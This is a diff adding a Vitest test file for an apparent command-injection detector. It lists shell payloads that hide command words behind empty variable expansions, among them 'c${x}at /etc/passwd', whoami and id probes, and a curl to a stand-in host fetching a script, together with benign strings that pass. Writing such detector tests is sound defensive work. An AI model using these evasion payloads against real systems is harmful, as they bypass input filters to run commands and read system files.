@@ -1,0 +1,32 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell payloads, not templates
+import { describe } from 'vitest'
+import { flagsAndLeaves } from './helpers.js'
+
+/**
+ * An unset variable in braces expands to nothing, so a word goes on right after it: `c${x}at` is
+ * `cat`, `w${KK}hoami` is `whoami`. A long name standing alone is a word of its own (`${SHELL}`).
+ */
+describe('command injection: expansions that split a command word', () => {
+  flagsAndLeaves(
+    [
+      ['w${x}hoami', 'cmd-shell-evasion'],
+      ['c${KK}url http://evil.example/s.sh', 'cmd-shell-evasion'],
+      ['p${abc_1}ing -c 3 127.0.0.1', 'cmd-shell-evasion'],
+      [';c${x}at /etc/passwd', 'cmd-sensitive-file'],
+      ['x; c${u}at /etc/hosts', 'cmd-sensitive-file'],
+      ['| ${x}id', 'cmd-separator-command'],
+      [';${xyz}whoami', 'cmd-separator-command'],
+      ['look at this: w${KK}hoami lol', 'cmd-shell-evasion'],
+      // a long name alone is still the user's shell
+      ['${SHELL} -c "id"', 'cmd-command-line'],
+    ],
+    [
+      'use ${name} in the template',
+      'we${x}ll done',
+      'hello ca${x}t world',
+      'the total is ${price}usd',
+      'set `${HOME}/bin` first in your path',
+    ],
+    true,
+  )
+})
